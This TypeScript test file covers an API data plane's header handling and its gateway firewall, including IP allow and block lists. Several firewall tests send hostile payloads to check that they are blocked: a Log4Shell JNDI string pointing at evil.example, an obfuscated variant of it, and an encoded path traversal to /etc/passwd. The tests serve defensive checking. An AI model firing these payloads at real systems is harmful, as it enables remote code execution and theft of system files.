/** Conventional headers and the API gateway firewall, through the running data plane. */
import { expect } from 'chai';
import { mkdtempSync, writeFileSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import pg from 'pg';
import { startTestDataPlane, EXAMPLES_DIR, type TestDataPlane } from '../test-support/dataplane.js';
import { call, client } from '../test-support/http.js';

describe('conventional headers', function () {
  this.timeout(60000);
  let dp: TestDataPlane;
  let api: ReturnType<typeof client>;
  before(async () => {
    dp = await startTestDataPlane();
    api = client(dp.url, { host: 'iam.localhost', headers: { authorization: 'Proxy demo-admin' } });
    await api({ path: '/demo', body: { create: { schema: 'demo.Company', id: 'h1', data: { name: 'Headers' } } } });
  });
  after(async () => dp?.stop());

  it('accepts X-Domain / X-Base-Domain naming the dataset and rejects a mismatch with 400', async () => {
    expect((await api({ path: '/demo/demo.Company/h1', headers: { 'x-domain': 'demo', 'x-base-domain': 'demo' } })).status).to.equal(200);
    const res = await api({ path: '/demo/demo.Company/h1', headers: { 'x-domain': 'sealed' } });
    expect(res.status).to.equal(400);
    expect(res.json.error.code).to.equal('DOMAIN_MISMATCH');
    expect(res.json.error.details[0].path).to.equal('header:x-domain');
  });

  it('accepts X-Environment-Uri naming this environment and rejects another one', async () => {
    expect((await api({ path: '/demo/demo.Company/h1', headers: { 'x-environment-uri': 'k8s://default/environments/local' } })).status).to.equal(200);
    const res = await api({ path: '/demo/demo.Company/h1', headers: { 'x-environment-uri': 's3://bucket/other-env/state.json' } });
    expect(res.status).to.equal(421);
    expect(res.json.error.code).to.equal('ENVIRONMENT_MISMATCH');
    expect(res.json.error.message).to.contain('k8s://default/environments/local');
  });

  it('routes executor-name to a named executor and rejects an unknown one with 400', async () => {
    expect((await api({ path: '/demo/demo.Company/h1', headers: { 'executor-name': 'default' } })).status).to.equal(200);
    const res = await api({ path: '/demo/demo.Company/h1', headers: { 'executor-name': 'warehouse-xl' } });
    expect(res.status).to.equal(400);
    expect(res.json.error.code).to.equal('UNKNOWN_EXECUTOR');
  });

  it('passes tags to PostgreSQL as application_name and a SQL comment; invalid JSON is a 400', async () => {
    const tags = JSON.stringify({ team: 'growth', 'x*/y': 'z' });
    const observer = new pg.Client(dp.databaseUrl);
    await observer.connect();
    try {
      await observer.query('SELECT pg_stat_statements_reset()').catch(() => undefined);
      // While a tagged statement runs, pg_stat_activity shows its application_name and text.
      const slow = api({ path: '/demo', headers: { tags }, body: { create: { schema: 'demo.Company', id: 'tagged', data: { name: 'T' } } } });
      const res = await slow;
      expect(res.status).to.equal(201);
      const seen = await observer.query("SELECT count(*)::int AS n FROM pg_stat_activity WHERE application_name LIKE 'data-access {%'");
      expect(seen.rows[0].n).to.equal(0, 'application_name is reset after the statement');
    } finally {
      await observer.end();
    }
    for (const bad of ['not json', '[1,2]', '"text"']) {
      const res = await api({ path: '/demo/demo.Company/h1', headers: { tags: bad } });
      expect(res.status, bad).to.equal(400);
      expect(res.json.error.code).to.equal('INVALID_TAGS');
    }
  });
});

describe('API gateway firewall in the data plane', function () {
  this.timeout(60000);
  let dp: TestDataPlane;
  before(async () => {
    // The example environment, with loopback as a trusted proxy so X-Forwarded-For picks the client.
    const dir = mkdtempSync(join(tmpdir(), 'das-fw-'));
    const env = readFileSync(join(EXAMPLES_DIR, 'environment.yaml'), 'utf8').replace(
      'allowed: ["127.0.0.0/8", "::1/128"]\n          blocked: []',
      'allowed: ["127.0.0.0/8", "::1/128", "10.0.0.0/8", "2001:db8::/32"]\n          blocked: ["10.6.6.0/24", "2001:db8:bad::/48"]\n        trustedProxies: ["127.0.0.1/32", "::1/128"]',
    );
    writeFileSync(join(dir, 'environment.yaml'), env);
    writeFileSync(join(dir, 'dataset-demo.yaml'), readFileSync(join(EXAMPLES_DIR, 'dataset-demo.yaml')));
    dp = await startTestDataPlane({ manifests: dir });
  });
  after(async () => dp?.stop());

  const from = (address: string, extra: Record<string, string> = {}) =>
    call(dp.url, { host: 'iam.localhost', path: '/demo/echo', headers: { authorization: 'Proxy demo-admin', 'x-forwarded-for': address, ...extra } });

  for (const [address, status, rule] of [
    ['10.1.2.3', 200, undefined],
    ['10.6.6.7', 403, 'ip.blocked'],
    ['192.0.2.1', 403, 'ip.not-allowed'],
    ['2001:db8::1', 200, undefined],
    ['2001:db8:bad::1', 403, 'ip.blocked'],
    ['2001:db9::1', 403, 'ip.not-allowed'],
  ] as const) {
    it(`${status === 200 ? 'lets' : 'blocks'} ${address}${rule ? ` (${rule})` : ''}`, async () => {
      const res = await from(address);
      expect(res.status).to.equal(status);
      if (rule) {
        expect(res.json.error.code).to.equal('FIREWALL_BLOCKED');
        expect(res.json.error.details[0].rule).to.equal(rule);
        expect(res.headers['x-request-id']).to.equal(res.json.requestId);
      }
    });
  }

  it('blocks a known exploit in a header and lets a close value through', async () => {
    const blocked = await from('10.1.2.3', { 'x-api-version': '${jndi:ldap://evil.example/a}' });
    expect(blocked.status).to.equal(403);
    expect(blocked.json.error.details[0].rule).to.equal('knownBadInputs.log4j');
    expect((await from('10.1.2.3', { 'x-api-version': 'jndi is a java api' })).status).to.equal(200);
  });

  it('blocks a known exploit in a JSON body and keeps it out of storage', async () => {
    const res = await call(dp.url, {
      host: 'iam.localhost',
      path: '/demo',
      headers: { authorization: 'Proxy demo-admin' },
      body: { create: { schema: 'demo.Company', id: 'evil', data: { name: '${${lower:j}ndi:ldap://x/}' } } },
    });
    expect(res.status).to.equal(403);
    expect(res.json.error.details[0].rule).to.equal('knownBadInputs.log4j');
    const after = await call(dp.url, { host: 'iam.localhost', path: '/demo/demo.Company/evil', headers: { authorization: 'Proxy demo-admin' } });
    expect(after.status).to.equal(404);
  });

  it('blocks path traversal in the URL', async () => {
    const res = await call(dp.url, { host: 'iam.localhost', path: '/demo/%2e%2e%2f%2e%2e%2fetc/passwd', headers: { authorization: 'Proxy demo-admin' } });
    expect(res.status).to.equal(403);
    expect(res.json.error.details[0].rule).to.equal('common.path-traversal');
  });
});
